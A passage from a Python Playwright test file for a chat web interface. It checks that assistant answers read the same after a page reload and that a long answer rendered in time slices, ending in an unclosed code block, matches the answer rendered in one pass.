        f"seed {seed}"
    )
    other.close()
    page.bring_to_front()  # the clipboard is the focused page's

    page.reload()
    for i in range(len(CORPUS)):
        answer = answers.nth(i)
        # The answers out of view are rendered a task each after the page shows (showAll).
        try:
            page.wait_for_function(
                f"([i, live]) => ({VISIBLE_TEXT})(document.querySelectorAll('#thread .assistant .body')[i]) === live",
                arg=[i, live[i]],
                polling=100,
                timeout=20_000,
            )
        except PlaywrightError:
            pass  # the assertion below says how it differs
        body = answer.locator(".body")
        reloaded = body.evaluate(VISIBLE_TEXT)
        assert reloaded == live[i], f"answer {i} reads otherwise after a reload (seed {seed})"
        assert copied_answer(page, answer) == stored[i], f"answer {i}'s Copy (seed {seed})"


def test_an_answer_rendered_in_slices_ends_rendered_whole(signed_in: Page):
    """A reload renders a long answer in slices of SLICE_MS; the last slice is still the final render.

    An answer that ends in a long code block never closed (stopped, or cut at max tokens) was left
    in the pieces shown while it streams (showOpenCode) when its render took more than one slice.
    """
    page = signed_in
    code = "".join(f"x_{i} = {i}  # line {i}\n" for i in range(300))
    text = "para\n\n" * 40 + f"```python\n{code}"
    same = page.evaluate(
        """async (text) => {
          const render = (slow) => {
            const body = document.createElement("div");
            document.body.append(body);
            const now = performance.now;
            let clock = 0;
            // Each look at the clock finds a slice's time gone: every batch of chunks is a slice.
            if (slow) performance.now = () => (clock += 1000);
            const answer = ChatAnswer.follow(body);
            answer.append(text);
            answer.finish();
            // The last slice renders the last complete chunks and the open one, in one task.
            return new Promise((done) => {
              const look = () => {
                if (body.querySelectorAll(":scope > .block").length < 41) return setTimeout(look, 10);
                performance.now = now;
                done(body);
              };
              look();
            });
          };
          const [whole, sliced] = [await render(false), await render(true)];
          return [whole.innerHTML === sliced.innerHTML, sliced.querySelectorAll("pre .piece").length];
        }""",
        text,
    )
    assert same == [True, 0]
